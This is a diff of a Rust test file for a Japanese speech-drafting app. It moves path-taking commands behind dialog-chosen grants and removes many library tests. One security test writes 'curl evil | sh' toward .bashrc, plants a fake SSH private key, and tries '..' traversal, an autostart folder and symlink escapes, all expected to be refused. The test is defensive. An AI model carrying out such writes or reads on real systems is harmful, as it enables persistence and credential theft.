@@ -1,25 +1,13 @@
-//! The commands run against an in-memory database, without a window: what the UI does, in
-//! the order it does it.
+//! The commands that take a path, against an in-memory database without a window: a path is
+//! used only when the user chose it in a dialog.
 
-use crate::commands::*;
-use crate::error::ErrorCode;
-use crate::ipc::{
-    DraftMeta, ExportProfile, Language, NewDraftValues, RecoveryChoice, RevisionKind, RubyStyle,
-    SaveKind, Settings, Theme,
-};
-use crate::state::{AppState, Location};
-use std::sync::{Arc, Mutex};
-use time::macros::datetime;
-use time::{Duration, OffsetDateTime};
+use crate::grants::Grants;
+use crate::paths;
+use podium_app::wire::NewDraftValues;
+use podium_app::{library, App, AppError, ErrorCode};
 
-mod morae;
-
-/// A state whose clock the test moves.
-fn state() -> (AppState, Arc<Mutex<OffsetDateTime>>) {
-    let now = Arc::new(Mutex::new(datetime!(2027-01-04 09:00 UTC)));
-    let clock = Arc::clone(&now);
-    let state = AppState::in_memory().with_clock(move || *clock.lock().unwrap());
-    (state, now)
+fn shell() -> (App, Grants) {
+    (App::in_memory(), Grants::default())
 }
 
 fn new_year() -> NewDraftValues {
@@ -32,245 +20,29 @@ fn new_year() -> NewDraftValues {
     }
 }
 
+/// An export is written to exactly the file chosen in the save dialog.
 #[test]
-fn app_info_names_the_version_and_the_database() {
-    let (state, _) = state();
-    let info = app_info(&state);
-    assert_eq!(info.version, podium::VERSION);
-    assert_eq!(info.database_path, ":memory:");
-    assert_eq!(info.database_error, None);
-}
-
-#[test]
-fn a_draft_from_creation_to_export() {
-    let (state, now) = state();
-    let tick = |minutes: i64| *now.lock().unwrap() += Duration::minutes(minutes);
-
-    // New from a template: placeholders filled, titled by its heading, measured.
-    assert!(list_templates().iter().any(|t| t.id == "new-year"));
-    let draft = create_draft(&state, new_year()).unwrap();
-    assert_eq!(draft.title, "令和9年 年頭挨拶");
-    assert_eq!(
-        (draft.event.as_str(), draft.event_date.as_deref()),
-        ("仕事始め式", Some("2027-01-04"))
-    );
-    assert!(draft.body.contains("市長　山田太郎") && !draft.body.contains("{{"));
-    assert!(draft.chars > 1000 && draft.seconds > 200.0);
-    assert_eq!(draft.updated_at, "2027-01-04T09:00:00Z");
-    let listed = list_drafts(&state).unwrap();
-    assert_eq!((listed.len(), listed[0].id), (1, draft.id));
-
-    // Autosaves while typing; the title follows the heading.
-    tick(1);
-    let body = draft.body.replacen("年頭挨拶", "年頭のご挨拶", 1);
-    let saved = save_draft(
-        &state,
-        draft.id,
-        body.clone(),
-        draft.revision,
-        SaveKind::Autosave,
-    )
-    .unwrap();
-    assert_eq!(saved.title, "令和9年 年頭のご挨拶");
-    tick(1);
-    let body = format!("{body}\n追記です。\n");
-    let saved = save_draft(
-        &state,
-        draft.id,
-        body.clone(),
-        saved.revision,
-        SaveKind::Autosave,
-    )
-    .unwrap();
-    assert_eq!(saved.revision, draft.revision + 2);
-
-    // Another window saved on a stale revision: conflict, its text kept in the history.
-    let error = save_draft(
-        &state,
-        draft.id,
-        "古い画面の文章".into(),
-        draft.revision,
-        SaveKind::Autosave,
-    )
-    .unwrap_err();
-    assert_eq!(error.code, ErrorCode::Conflict);
-    assert_eq!(
-        get_draft(&state, draft.id).unwrap().body,
-        body,
-        "the draft is untouched"
-    );
-
-    // History: newest first; the two autosaves were coalesced into one revision.
-    let revisions = list_revisions(&state, draft.id).unwrap();
-    let kinds: Vec<_> = revisions.iter().map(|r| r.kind).collect();
-    assert_eq!(
-        kinds,
-        [
-            RevisionKind::Conflict,
-            RevisionKind::Autosave,
-            RevisionKind::Create
-        ]
-    );
-    let conflict = get_revision(&state, revisions[0].id).unwrap();
-    assert_eq!(conflict.body, "古い画面の文章");
-    assert_eq!(revisions[1].created_at, "2027-01-04T09:01:00Z");
-    assert_eq!(revisions[1].updated_at, "2027-01-04T09:02:00Z");
-
-    // Restore the first revision: the restore is a revision of its own.
-    tick(10);
-    let restored = restore_revision(&state, revisions[2].id).unwrap();
-    assert_eq!(restored.body, draft.body);
-    assert_eq!(restored.title, "令和9年 年頭挨拶");
-    let latest = &list_revisions(&state, draft.id).unwrap()[0];
-    assert_eq!(latest.kind, RevisionKind::Restore);
-
-    // Analyse with the settings' pace; export with the settings' footer.
-    let analysis = analyse(&state, &restored.body).unwrap();
-    assert_eq!(analysis.pace_per_minute, 300.0);
-    assert_eq!(analysis.title.as_deref(), Some("令和9年 年頭挨拶"));
-    assert!(analysis.sections.len() >= 6);
-    let text = export_text(&state, &restored.body, ExportProfile::Text, None, None).unwrap();
-    assert!(text.starts_with("令和9年 年頭挨拶"));
+fn an_export_goes_to_the_file_chosen_in_the_save_dialog() {
+    let grants = Grants::default();
+    let text = "令和9年 年頭挨拶\n\n本日は。\n";
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("年頭挨拶.txt");
-    let chosen = choose_export_path(&state, Some(path.clone())).unwrap();
+    let chosen = paths::choose_export_path(&grants, Some(path.clone())).unwrap();
     let chosen = chosen.expect("the save dialog's path, granted");
-    save_export(&state, &chosen, &text).unwrap();
+    paths::save_export(&grants, &chosen, text).unwrap();
     assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
-    let relative = save_export(&state, "年頭挨拶.txt", &text).unwrap_err();
+    let relative = paths::save_export(&grants, "年頭挨拶.txt", text).unwrap_err();
     assert_eq!(relative.code, ErrorCode::InvalidInput);
-    assert_eq!(choose_export_path(&state, None), Ok(None), "cancelled");
-
-    // Search finds it from one character.
-    let hits = search_drafts(&state, "挨").unwrap();
-    assert_eq!(hits.len(), 1);
-    assert!(search_drafts(&state, "  ").unwrap().is_empty());
-}
-
-#[test]
-fn settings_round_trip_and_drive_analysis_and_export() {
-    let (state, _) = state();
-    let defaults = get_settings(&state);
     assert_eq!(
-        (defaults.pace_cpm, defaults.pace_mpm, defaults.language),
-        (300, 420, Language::Ja)
+        paths::choose_export_path(&grants, None),
+        Ok(None),
+        "cancelled"
     );
-    let settings = Settings {
-        language: Language::En,
-        pace_cpm: 350,
-        pace_mpm: 460,
-        max_sentence_chars: 20,
-        max_commas: 1,
-        blog_footer: "市長室より".into(),
-        theme: Theme::Dark,
-        lint_off: vec!["mixed-style".into()],
-    };
-    assert_eq!(set_settings(&state, settings.clone()).unwrap(), settings);
-    assert_eq!(get_settings(&state), settings);
-
-    let body = "# 題\n\n## 結びに\n\nこの一文は、二十字を超えるので、長すぎると言われ、読点も多すぎます。\n";
-    let analysis = analyse(&state, body).unwrap();
-    assert_eq!(analysis.pace_per_minute, 350.0);
-    let rules: Vec<_> = analysis.findings.iter().map(|f| f.rule.as_str()).collect();
-    assert!(
-        rules.contains(&"sentence-length") && rules.contains(&"too-many-commas"),
-        "{rules:?}"
-    );
-    let blog = export_text(
-        &state,
-        body,
-        ExportProfile::Blog,
-        Some(RubyStyle::Base),
-        None,
-    )
-    .unwrap();
-    assert!(blog.contains("市長室より"), "{blog}");
-    // The 要旨 the writer edits goes back into the post as edited.
-    let lines = blog_summary("## ① 人づくり\n\n学びの場を広げます。\n").unwrap();
-    assert_eq!(lines, ["① 人づくり　学びの場の拡大"]);
-    let edited = vec!["〈姿勢〉書き直した一行".to_string()];
-    let blog = export_text(&state, body, ExportProfile::Blog, None, Some(edited)).unwrap();
-    assert!(blog.contains("<p>〈姿勢〉書き直した一行</p>"), "{blog}");
-    let too_many = vec![String::new(); 51];
-    let error = export_text(&state, body, ExportProfile::Blog, None, Some(too_many)).unwrap_err();
-    assert_eq!(error.code, ErrorCode::InvalidInput);
-
-    let too_fast = Settings {
-        pace_cpm: 9999,
-        ..settings.clone()
-    };
-    let error = set_settings(&state, too_fast).unwrap_err();
-    assert_eq!(error.code, ErrorCode::InvalidInput);
-    let too_slow = Settings {
-        pace_mpm: 59,
-        ..settings.clone()
-    };
-    let error = set_settings(&state, too_slow).unwrap_err();
-    assert_eq!(error.code, ErrorCode::InvalidInput);
-    assert!(error.message.contains("拍/分"), "{}", error.message);
-    assert_eq!(
-        get_settings(&state),
-        settings,
-        "refused settings change nothing"
-    );
-}
-
-#[test]
-fn details_duplicate_delete_and_restore() {
-    let (state, _) = state();
-    let draft = create_draft(
-        &state,
-        NewDraftValues {
-            template_id: None,
-            ..new_year()
-        },
-    )
-    .unwrap();
-    assert_eq!((draft.title.as_str(), draft.body.as_str()), ("無題", ""));
-
-    let meta = DraftMeta {
-        title: "成人式 式辞".into(),
-        event: "成人式".into(),
-        event_date: Some("2027-01-11".into()),
-        target_seconds: Some(420),
-    };
-    let updated = update_draft_meta(&state, draft.id, meta).unwrap();
-    assert_eq!(updated.title, "成人式 式辞");
-    assert_eq!(updated.target_seconds, Some(420));
-    assert_eq!(
-        updated.revision,
-        draft.revision + 1,
-        "the UI takes the new revision"
-    );
-    let saved = save_draft(
-        &state,
-        draft.id,
-        "本文。".into(),
-        updated.revision,
-        SaveKind::Named {
-            name: Some(" 初稿 ".into()),
-        },
-    )
-    .unwrap();
-    assert_eq!(saved.title, "成人式 式辞", "no heading: the title stays");
-    assert_eq!(
-        list_revisions(&state, draft.id).unwrap()[0].name.as_deref(),
-        Some("初稿")
-    );
-
-    let copy = duplicate_draft(&state, draft.id).unwrap();
-    assert_eq!(copy.title, "成人式 式辞（コピー）");
-    assert_eq!(copy.body, "本文。");
-
-    delete_draft(&state, draft.id).unwrap();
-    assert_eq!(list_drafts(&state).unwrap().len(), 1);
-    restore_draft(&state, draft.id).unwrap();
-    assert_eq!(list_drafts(&state).unwrap().len(), 2);
 }
 
 #[test]
 fn import_lists_bad_files_and_writes_nothing_for_them() {
-    let (state, _) = state();
+    let (state, grants) = shell();
     let dir = tempfile::tempdir().unwrap();
     let good = dir.path().join("成人式.md");
     std::fs::write(&good, "新成人の皆さん。\r\n").unwrap();
@@ -279,245 +51,41 @@ fn import_lists_bad_files_and_writes_nothing_for_them() {
     let gone = dir.path().join("ない.md");
     std::fs::write(&gone, "消えます").unwrap();
     // Chosen in the open dialog (one removed before the import).
-    let paths = choose_import_files(&state, vec![good, binary, gone.clone()]).unwrap();
+    let paths = paths::choose_import_files(&grants, vec![good, binary, gone.clone()]).unwrap();
     std::fs::remove_file(&gone).unwrap();
-    let report = import_files(&state, paths).unwrap();
+    let report = paths::import_files(&state, &grants, paths).unwrap();
     assert_eq!(report.imported.len(), 1);
     assert_eq!(report.imported[0].title, "成人式");
     let failed: Vec<_> = report.failed.iter().map(|f| f.path.as_str()).collect();
     assert_eq!(failed.len(), 2);
     assert!(failed[0].ends_with("写真.md") && failed[1].ends_with("ない.md"));
     assert!(report.failed[0].message.starts_with("バイナリファイル"));
-    let relative = import_files(&state, vec!["relative.md".to_owned()]).unwrap_err();
+    let relative =
+        paths::import_files(&state, &grants, vec!["relative.md".to_owned()]).unwrap_err();
     assert_eq!(relative.code, ErrorCode::InvalidInput);
-    assert_eq!(list_drafts(&state).unwrap().len(), 1);
+    assert_eq!(library::list_drafts(&state).unwrap().len(), 1);
     assert_eq!(
-        get_draft(&state, report.imported[0].id).unwrap().body,
+        library::get_draft(&state, report.imported[0].id)
+            .unwrap()
+            .body,
         "新成人の皆さん。\n"
     );
 }
 
 #[test]
-fn bad_arguments_are_invalid_input_and_missing_things_not_found() {
-    let (state, _) = state();
-    assert_eq!(
-        get_draft(&state, 0).unwrap_err().code,
-        ErrorCode::InvalidInput
-    );
-    assert_eq!(get_draft(&state, 42).unwrap_err().code, ErrorCode::NotFound);
-    assert_eq!(
-        get_revision(&state, 42).unwrap_err().code,
-        ErrorCode::NotFound
-    );
-    let huge = "あ".repeat(podium::input::MAX_DRAFT_BYTES / 3 + 1);
-    assert_eq!(
-        analyse(&state, &huge).unwrap_err().code,
-        ErrorCode::InvalidInput
-    );
-    let unknown = NewDraftValues {
-        template_id: Some("no-such-template".into()),
-        ..new_year()
-    };
-    assert_eq!(
-        create_draft(&state, unknown).unwrap_err().code,
-        ErrorCode::NotFound
-    );
-}
-
-#[test]
-fn analysis_works_without_a_database() {
-    use crate::error::AppError;
-    let state = AppState::open(Location::Nowhere(AppError::new(
-        ErrorCode::Io,
-        "no data folder",
-    )));
-    assert_eq!(list_drafts(&state).unwrap_err().code, ErrorCode::Io);
-    assert_eq!(
-        app_info(&state).database_error.map(|e| e.code),
-        Some(ErrorCode::Io)
-    );
-    assert!(analyse(&state, "# 題\n\n本文。").is_ok());
-    assert!(export_text(&state, "本文。", ExportProfile::Html, None, None).is_ok());
-}
-
-#[test]
-fn the_prompter_reads_the_draft_remembers_its_settings_and_calibrates_from_rehearsals() {
-    let (state, now) = state();
-    let draft = create_draft(&state, new_year()).unwrap();
-    let script = prompter_script(&state, draft.id).unwrap();
-    assert_eq!(script.revision, draft.revision);
-    assert_eq!(script.title.as_deref(), Some("令和9年 年頭挨拶"));
-    assert!(script.sections.len() >= 6);
-    let total: f64 = script.sections.iter().map(|s| s.seconds).sum();
-    assert!((total - script.seconds).abs() < 1e-6);
-    assert_eq!(
-        prompter_script(&state, 999).unwrap_err().code,
-        ErrorCode::NotFound
-    );
-
-    // Settings: defaults, then stored; out of range refused.
-    let mut settings = get_prompter_settings(&state);
-    assert_eq!((settings.font_px, settings.countdown_seconds), (72, 3));
-    settings.mirror_horizontal = true;
-    settings.vertical = true;
-    assert_eq!(
-        set_prompter_settings(&state, settings.clone()).unwrap(),
-        settings
-    );
-    assert_eq!(get_prompter_settings(&state), settings);
-    let error = set_prompter_settings(
-        &state,
-        crate::ipc::PrompterSettings {
-            pace_mpm: Some(59),
-            ..settings
-        },
-    )
-    .unwrap_err();
-    assert_eq!(error.code, ErrorCode::InvalidInput);
-
-    // No rehearsal yet: no measured pace.
-    let summary = rehearsal_summary(&state, draft.id).unwrap();
-    assert_eq!((summary.runs.len(), summary.measured_cpm), (0, None));
-    assert_eq!(
-        (summary.measured_mpm, summary.calibrated_seconds),
-        (None, None)
-    );
-
-    // A rehearsal read slower than the estimate: the speaker's pace is under 300 字/分 and
-    // the estimate at that pace is longer.
-    *now.lock().unwrap() += time::Duration::minutes(5);
-    let measured: Vec<f64> = script.sections.iter().map(|s| s.seconds * 1.2).collect();
-    let summary = save_rehearsal(&state, draft.id, draft.revision, measured).unwrap();
-    assert_eq!(summary.runs.len(), 1);
-    assert_eq!(summary.runs[0].recorded_at, "2027-01-04T09:05:00Z");
-    let cpm = summary.measured_cpm.unwrap();
-    assert!((200..300).contains(&cpm), "{cpm}");
-    assert!(summary.calibrated_seconds.unwrap() > script.seconds);
-    // Without the dictionary nothing was timed in morae.
-    assert_eq!(summary.measured_mpm, None);
-    let bad = save_rehearsal(&state, draft.id, 1, vec![f64::INFINITY]).unwrap_err();
-    assert_eq!(bad.code, ErrorCode::InvalidInput);
-}
-
-#[test]
-fn the_reading_dictionary_is_checked_stored_and_used_by_analysis() {
-    let (state, _) = state();
-    assert!(list_readings(&state).unwrap().is_empty());
-    let refused = put_reading(&state, "白井亨", "shirai").unwrap_err();
-    assert_eq!(refused.code, ErrorCode::InvalidInput);
-    let entries = put_reading(&state, "白井亨", "しらいとおる").unwrap();
-    assert_eq!(entries.len(), 1);
-    assert_eq!(entries[0].reading, "シライトオル");
-    assert!(delete_reading(&state, "白井亨").unwrap().is_empty());
-    // Without the dictionary (never loaded here) analysis counts characters and says so.
-    let analysis = analyse(&state, "# 題\n\n白井亨です。").unwrap();
-    assert_eq!(analysis.dictionary, crate::ipc::DictionaryStatus::Missing);
-    assert_eq!(analysis.morae, None);
-    assert!(analysis.readings.is_empty());
-}
-
-#[test]
-fn renaming_a_draft_rewrites_its_heading() {
-    let (state, _) = state();
-    let draft = create_draft(&state, new_year()).unwrap();
-    assert!(draft.body.starts_with("# 令和9年 年頭挨拶\n"));
-    let meta = DraftMeta {
-        title: "令和9年 仕事始め式 挨拶".into(),
-        event: draft.event.clone(),
-        event_date: draft.event_date.clone(),
-        target_seconds: None,
-    };
-    let renamed = update_draft_meta(&state, draft.id, meta).unwrap();
-    assert!(renamed.body.starts_with("# 令和9年 仕事始め式 挨拶\n"));
-    let body = format!("{}\n以上です。\n", renamed.body);
-    let saved = save_draft(&state, draft.id, body, renamed.revision, SaveKind::Autosave).unwrap();
-    assert_eq!(
-        saved.title, "令和9年 仕事始め式 挨拶",
-        "the next save keeps the name"
-    );
-}
-
-/// A state over a database file in `dir`, with today's backup made as at start-up.
-fn file_state(dir: &std::path::Path) -> AppState {
-    let state = AppState::open(Location::File(dir.join("podium.db")))
-        .with_clock(|| datetime!(2027-01-04 00:30 UTC))
-        .with_local_offset(time::macros::offset!(+9));
-    back_up_if_due(&state);
-    state
-}
-
-#[test]
-fn a_daily_backup_is_made_at_start_up_and_listed() {
-    let dir = tempfile::tempdir().unwrap();
-    let state = file_state(dir.path());
-    let backups = backups(&state).unwrap();
-    assert_eq!(backups.error, None);
-    assert_eq!(backups.files.len(), 1);
-    assert!(
-        backups.files[0].ends_with("backups/podium-2027-01-04.db"),
-        "local date"
-    );
-}
-
-#[test]
-fn a_corrupt_database_is_replaced_only_on_request_and_kept_aside() {
-    let dir = tempfile::tempdir().unwrap();
-    let state = file_state(dir.path());
-    create_draft(&state, new_year()).unwrap();
-    let refused = recover_database(&state, RecoveryChoice::NewDatabase).unwrap_err();
-    assert_eq!(
-        refused.code,
-        ErrorCode::InvalidInput,
-        "a sound database stays"
-    );
-    std::fs::remove_dir_all(dir.path().join("backups")).unwrap();
-    back_up_if_due(&state); // today's backup now holds the draft
-    drop(state);
-
-    let path = dir.path().join("podium.db");
-    let garbage = b"not a database; a page of text instead ".repeat(200);
-    std::fs::write(&path, &garbage).unwrap();
-    for suffix in ["-wal", "-shm"] {
-        let _ = std::fs::remove_file(dir.path().join(format!("podium.db{suffix}")));
-    }
-    let state = AppState::open(Location::File(path.clone()));
-    let error = app_info(&state).database_error.unwrap();
-    assert_eq!(error.code, ErrorCode::DatabaseCorrupt);
-    assert_eq!(
-        list_drafts(&state).unwrap_err().code,
-        ErrorCode::DatabaseCorrupt
-    );
-
-    let recovered = recover_database(&state, RecoveryChoice::NewestBackup).unwrap();
-    assert_eq!(std::fs::read(&recovered.moved_aside).unwrap(), garbage);
-    assert!(recovered
-        .restored_from
-        .unwrap()
-        .ends_with("podium-2027-01-04.db"));
-    assert_eq!(list_drafts(&state).unwrap()[0].title, "令和9年 年頭挨拶");
-
-    std::fs::write(&path, &garbage).unwrap();
-    let state = AppState::open(Location::File(path.clone()));
-    let fresh = recover_database(&state, RecoveryChoice::NewDatabase).unwrap();
-    assert_eq!(fresh.restored_from, None);
-    assert_ne!(
-        fresh.moved_aside, recovered.moved_aside,
-        "never overwritten"
-    );
-    assert!(list_drafts(&state).unwrap().is_empty());
-}
-
-#[test]
 fn export_all_reports_progress_and_writes_only_into_the_folder() {
-    let (state, _) = state();
-    create_draft(&state, new_year()).unwrap();
-    create_draft(&state, new_year()).unwrap();
+    let (state, grants) = shell();
+    library::create_draft(&state, new_year()).unwrap();
+    library::create_draft(&state, new_year()).unwrap();
     let dir = tempfile::tempdir().unwrap();
     let folder = dir.path().join("書き出し");
     std::fs::create_dir(&folder).unwrap();
-    let folder = choose_folder(&state, Some(folder)).unwrap().unwrap();
+    let folder = paths::choose_folder(&grants, Some(folder))
+        .unwrap()
+        .unwrap();
     let mut heard = Vec::new();
-    let report = export_all(&state, &folder, |p| heard.push((p.done, p.total))).unwrap();
+    let report =
+        paths::export_all(&state, &grants, &folder, |p| heard.push((p.done, p.total))).unwrap();
     assert_eq!(heard, [(0, 2), (1, 2), (2, 2)]);
     assert_eq!(report.files.len(), 2);
     assert!(report
@@ -528,7 +96,7 @@ fn export_all_reports_progress_and_writes_only_into_the_folder() {
         report.files[0], report.files[1],
         "same titles, distinct files"
     );
-    let relative = export_all(&state, "書き出し", |_| {}).unwrap_err();
+    let relative = paths::export_all(&state, &grants, "書き出し", |_| {}).unwrap_err();
     assert_eq!(relative.code, ErrorCode::InvalidInput);
 }
 
@@ -537,12 +105,12 @@ fn export_all_reports_progress_and_writes_only_into_the_folder() {
 /// was chosen, before touching anything.
 #[test]
 fn files_never_chosen_are_neither_read_nor_written() {
-    let (state, _) = state();
-    create_draft(&state, new_year()).unwrap();
+    let (state, grants) = shell();
+    library::create_draft(&state, new_year()).unwrap();
     let dir = tempfile::tempdir().unwrap();
     let root = std::fs::canonicalize(dir.path()).unwrap();
     let text = |path: &std::path::Path| path.to_str().unwrap().to_owned();
-    fn refused<T>(result: Result<T, crate::error::AppError>) {
+    fn refused<T>(result: Result<T, AppError>) {
         let error = result.map(|_| ()).unwrap_err();
         assert_eq!(error.code, ErrorCode::NotPermitted, "{}", error.message);
         assert!(error.message.contains("(not chosen in a dialog"));
@@ -550,58 +118,85 @@ fn files_never_chosen_are_neither_read_nor_written() {
 
     // save_export: any text into any file.
     let target = root.join(".bashrc");
-    refused(save_export(&state, &text(&target), "curl evil | sh"));
+    refused(paths::save_export(
+        &grants,
+        &text(&target),
+        "curl evil | sh",
+    ));
     assert!(!target.exists());
 
     // import_files + get_draft: a private key read into the library.
     let secret = root.join("id_ed25519");
     std::fs::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
-    refused(import_files(&state, vec![text(&secret)]));
-    assert_eq!(list_drafts(&state).unwrap().len(), 1, "nothing imported");
-    assert_eq!(get_draft(&state, 2).unwrap_err().code, ErrorCode::NotFound);
+    refused(paths::import_files(&state, &grants, vec![text(&secret)]));
+    assert_eq!(
+        library::list_drafts(&state).unwrap().len(),
+        1,
+        "nothing imported"
+    );
+    assert_eq!(
+        library::get_draft(&state, 2).unwrap_err().code,
+        ErrorCode::NotFound
+    );
     // One chosen file does not carry another along.
     let speech = root.join("挨拶.md");
     std::fs::write(&speech, "本日は。").unwrap();
-    let chosen = choose_import_files(&state, vec![speech.clone()]).unwrap();
-    refused(import_files(&state, vec![chosen[0].clone(), text(&secret)]));
-    assert_eq!(list_drafts(&state).unwrap().len(), 1, "all or nothing");
+    let chosen = paths::choose_import_files(&grants, vec![speech.clone()]).unwrap();
+    refused(paths::import_files(
+        &state,
+        &grants,
+        vec![chosen[0].clone(), text(&secret)],
+    ));
+    assert_eq!(
+        library::list_drafts(&state).unwrap().len(),
+        1,
+        "all or nothing"
+    );
     // `..` out of the chosen file's folder.
     std::fs::create_dir(root.join("sub")).unwrap();
-    refused(import_files(
+    refused(paths::import_files(
         &state,
+        &grants,
         vec![text(&root.join("sub/../id_ed25519"))],
     ));
 
     // export_all: files into any folder.
     let folder = root.join("autostart");
     std::fs::create_dir(&folder).unwrap();
-    refused(export_all(&state, &text(&folder), |_| {}));
+    refused(paths::export_all(&state, &grants, &text(&folder), |_| {}));
     assert_eq!(std::fs::read_dir(&folder).unwrap().count(), 0);
 
     // Chosen: accepted, by any spelling that resolves to it.
-    let chosen_folder = choose_folder(&state, Some(root.join("sub/../autostart")))
+    let chosen_folder = paths::choose_folder(&grants, Some(root.join("sub/../autostart")))
         .unwrap()
         .unwrap();
     assert_eq!(chosen_folder, text(&folder));
-    let report = export_all(&state, &text(&root.join("sub/../autostart")), |_| {}).unwrap();
-    assert_eq!(report.files.len(), 1);
-    refused(export_all(
+    let report = paths::export_all(
         &state,
+        &grants,
+        &text(&root.join("sub/../autostart")),
+        |_| {},
+    )
+    .unwrap();
+    assert_eq!(report.files.len(), 1);
+    refused(paths::export_all(
+        &state,
+        &grants,
         &text(&root.join("autostart/..")),
         |_| {},
     ));
-    let imported = import_files(&state, chosen).unwrap();
+    let imported = paths::import_files(&state, &grants, chosen).unwrap();
     assert_eq!(imported.imported.len(), 1);
     let export = root.join("sub/挨拶.html");
-    let granted = choose_export_path(&state, Some(export.clone()))
+    let granted = paths::choose_export_path(&grants, Some(export.clone()))
         .unwrap()
         .unwrap();
-    save_export(&state, &granted, "<p>本日は。</p>").unwrap();
+    paths::save_export(&grants, &granted, "<p>本日は。</p>").unwrap();
     assert_eq!(std::fs::read_to_string(&export).unwrap(), "<p>本日は。</p>");
     // A grant to write that file is not one to read it, nor to write the one beside it.
-    refused(import_files(&state, vec![granted.clone()]));
-    refused(save_export(
-        &state,
+    refused(paths::import_files(&state, &grants, vec![granted.clone()]));
+    refused(paths::save_export(
+        &grants,
         &text(&root.join("sub/other.html")),
         "x",
     ));
@@ -611,73 +206,26 @@ fn files_never_chosen_are_neither_read_nor_written() {
     {
         use std::os::unix::fs::symlink;
         symlink(&root, folder.join("up")).unwrap();
-        refused(export_all(&state, &text(&folder.join("up")), |_| {}));
-        symlink(&root, root.join("sub/up")).unwrap();
-        refused(save_export(
+        refused(paths::export_all(
             &state,
+            &grants,
+            &text(&folder.join("up")),
+            |_| {},
+        ));
+        symlink(&root, root.join("sub/up")).unwrap();
+        refused(paths::save_export(
+            &grants,
             &text(&root.join("sub/up/.bashrc")),
             "x",
         ));
         assert!(!target.exists());
         std::fs::remove_file(&speech).unwrap();
         symlink(&secret, &speech).unwrap();
-        refused(import_files(&state, vec![text(&speech)]));
+        refused(paths::import_files(&state, &grants, vec![text(&speech)]));
         assert_eq!(
-            list_drafts(&state).unwrap().len(),
+            library::list_drafts(&state).unwrap().len(),
             2,
             "the import before, only"
         );
     }
-}
-
-/// Builds the `drafts_live` index for other columns, then gives it back its own definition:
-/// the index disagrees with its table, which only the full check sees (as `podium doctor`).
-fn damage_an_index(db: &std::path::Path) {
-    let set_sql = |text: &str| {
-        let conn = rusqlite::Connection::open(db).unwrap();
-        conn.pragma_update(None, "writable_schema", true).unwrap();
-        conn.execute(
-            "UPDATE sqlite_schema SET sql = ?1 WHERE name = 'drafts_live'",
-            [text],
-        )
-        .unwrap();
-    };
-    let original: String = rusqlite::Connection::open(db)
-        .unwrap()
-        .query_row(
-            "SELECT sql FROM sqlite_schema WHERE name = 'drafts_live'",
-            [],
-            |row| row.get(0),
-        )
-        .unwrap();
-    set_sql(&original.replace("updated_at, id, title", "created_at, id, body"));
-    rusqlite::Connection::open(db)
-        .unwrap()
-        .execute_batch("REINDEX drafts_live")
-        .unwrap();
-    set_sql(&original);
-}
-
-#[test]
-fn the_daily_check_finds_a_damaged_index_and_the_app_repairs_it() {
-    let dir = tempfile::tempdir().unwrap();
-    let state = file_state(dir.path());
-    let draft = create_draft(&state, new_year()).unwrap();
-    assert!(backups(&state).unwrap().damage.is_empty());
-    drop(state);
-    damage_an_index(&dir.path().join("podium.db"));
-    std::fs::remove_dir_all(dir.path().join("backups")).unwrap();
-    let state = file_state(dir.path());
-    let damage = backups(&state).unwrap().damage;
-    assert!(
-        !damage.is_empty(),
-        "the full check at the daily backup sees it"
-    );
-    let repaired = repair_database(&state).unwrap();
-    assert!(!repaired.sound);
-    assert!(backups(&state).unwrap().damage.is_empty());
-    // The store is open again, with the draft.
-    assert_eq!(get_draft(&state, draft.id).unwrap().body, draft.body);
-    let again = repair_database(&state).unwrap();
-    assert!(again.sound, "{again:?}");
 }
